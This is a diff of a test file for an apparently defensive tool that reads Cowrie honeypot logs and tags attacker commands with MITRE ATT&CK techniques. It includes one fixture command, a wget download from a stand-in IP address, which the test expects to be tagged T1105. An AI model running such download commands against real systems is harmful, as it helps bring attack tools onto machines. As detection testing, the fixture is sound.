@@ -4,7 +4,7 @@ import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { createServer, type AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { setTimeout as delay } from 'node:timers/promises';
-import { aCowrieSession, aFolder, cleanUp, referenceRules, survivors, Ttp, ttp } from './ttp';
+import { aCowrieSession, aFolder, cleanUp, type Process, referenceRules, survivors, Ttp, ttp, until } from './ttp';
 
 const FOUND_IN_COMMANDS = { T1003: 1, T1016: 3, T1033: 7, T1046: 4, T1049: 1, T1053: 2, T1059: 10, T1070: 4, T1082: 14, T1083: 6, T1098: 1, T1105: 15, T1136: 1, T1505: 1, T1548: 4, T1595: 4 };
 
@@ -89,8 +89,7 @@ describe('ttp up --once', () => {
   it('interrupted while it starts, and again, stops all that had started, and says by 1 that there is no result', async () => {
     const temporary = ownTemporary();
     const run = new Ttp(['up', '--demo', '--once', '--json'], { env: temporary.env });
-    while (!run.descendants().some(({ args }) => args.includes('ttp-worker'))) await delay(20);
-    const running = run.descendants();
+    const running = await starting(run);
     // Supervisors repeat a SIGTERM: it stays one.
     for (let times = 0; times < 3; times++) run.child.kill('SIGTERM');
     expect(await run.ended).toMatchObject({ code: 1, signal: null, stdout: '' });
@@ -100,9 +99,8 @@ describe('ttp up --once', () => {
 
   it('leaves with 1 and the name of the broker when that is lost before the services are ready', async () => {
     const run = new Ttp(['up', '--demo', '--once']);
-    while (!run.descendants().some(({ args }) => args.includes('ttp-worker'))) await delay(20);
-    const running = run.descendants();
-    kill(run, 'nats-server');
+    const running = await starting(run);
+    kill(run, 'nats-server', running);
     const stderr = expect.stringMatching(/^starting .*\nttp: nats-server ended with SIGKILL\n$/);
     expect(await run.ended).toMatchObject({ code: 1, stdout: '', stderr });
     expect(await survivors(running)).toEqual([]);
@@ -134,7 +132,7 @@ describe('ttp up', () => {
 
     kill(run, 'ttp-worker');
     await run.says(/(ttp-worker ended with SIGKILL; starting it again)/);
-    for (let tries = 0; tries < 200 && !(await isUp(url.metrics)); tries++) await delay(50);
+    await until(() => isUp(url.metrics));
     expect((await fetch(url.metrics)).status).toBe(200);
 
     const broker = await run.says(/broker +(nats\S+)/);
@@ -142,7 +140,7 @@ describe('ttp up', () => {
     await run.says(/(nats-server ended with SIGKILL; starting it again)/);
     const log = aFolder({ 'cowrie.json': aCowrieSession('5e55', ['wget http://192.0.2.1/x']) });
     expect(await ttp(['ingest', 'cowrie', join(log, 'cowrie.json'), '--nats', broker])).toMatchObject({ code: 0 });
-    for (let tries = 0; tries < 200 && (await textOf(url.techniques)) === '[]'; tries++) await delay(50);
+    await until(async () => (await textOf(url.techniques)) !== '[]');
     expect(await textOf(url.techniques)).toContain('"T1105"');
 
     const freePorts = ['--port', '--worker-port', '--rule-store-port', '--rule-sync-port'].flatMap((flag) => [flag, '0']);
@@ -188,6 +186,13 @@ const textOf = async (url: string) => (await fetch(url)).text();
 
 const isUp = (url: string) => fetch(url).then(({ ok }) => ok, () => false);
 
-function kill(run: Ttp, service: string): void {
-  for (const { pid, args } of run.descendants()) if (args.includes(service)) process.kill(pid, 'SIGKILL');
+/** All that runs, as soon as the worker does: it is not ready yet. */
+async function starting(run: Ttp): Promise<readonly Process[]> {
+  let running: readonly Process[] = [];
+  await until(() => (running = run.descendants()).some(({ args }) => args.includes('ttp-worker')));
+  return running;
+}
+
+function kill(run: Ttp, service: string, running = run.descendants()): void {
+  for (const { pid, args } of running) if (args.includes(service)) process.kill(pid, 'SIGKILL');
 }
